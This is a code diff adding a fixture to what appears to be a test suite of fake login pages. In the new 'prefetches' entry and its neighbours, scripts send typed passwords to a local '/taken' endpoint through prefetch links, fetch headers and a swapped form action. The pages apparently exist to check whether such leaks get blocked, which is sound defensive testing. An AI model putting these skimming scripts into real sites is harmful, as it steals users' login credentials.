@@ -45,6 +45,11 @@ LOGINS = {
         "fetch(to,{headers:{'x-word':w}}).catch(()=>fetch(to,{headers:{'x-word':btoa(w)}}))"
         ".catch(()=>p.textContent='stopped')}</script>"
     ),
+    "prefetches": _page(
+        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
+        "const l=document.createElement('link');l.rel='prefetch';l.onerror=()=>p.textContent='stopped';"
+        "l.href='http://localhost:{port}/taken?q='+encodeURIComponent(e.target.value);document.head.append(l)}</script>"
+    ),
     "swaps": _page(
         f"<form id=f method=post action=/signed>{_FIELDS}</form><script>window.go=()=>f.action="
         "'http://localhost:{port}/taken'</script>"
